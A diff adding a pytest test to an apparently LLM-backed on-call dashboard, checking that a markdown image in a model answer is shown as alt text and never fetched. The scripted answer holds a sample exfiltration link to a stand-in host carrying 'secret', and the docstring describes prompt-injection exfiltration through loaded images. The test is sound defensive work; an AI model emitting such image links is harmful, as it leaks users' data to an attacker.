@@ -116,3 +116,15 @@ def test_feedback_and_escalation_are_stored_with_the_request_id():
     message = next(c.value for c in at.code if "Escalation from the on-call dashboard" in c.value)
     assert "Question: What is firing now?" in message and answer["request_id"] in message
     assert any(f["escalated"] for f in store.feedback_rows() if f["request_id"] == answer["request_id"])
+
+
+def test_an_image_in_a_model_answer_is_never_fetched(monkeypatch):
+    """Prompt injection exfiltrates through images the browser loads: the panel shows their alt text only."""
+    with fake_openai() as fake:
+        monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
+        monkeypatch.setenv("OPENAI_BASE_URL", fake.url)
+        fake.script = [ROUTER_PASS, {"content": "KubePod is firing [1]. ![status](http://canary.invalid/x?d=secret) done"}]
+        at = ask(app(), "what is firing?")
+    shown = " ".join(m.value for m in at.markdown)
+    assert "canary.invalid" not in shown and "![" not in shown
+    assert "[image: status]" in shown
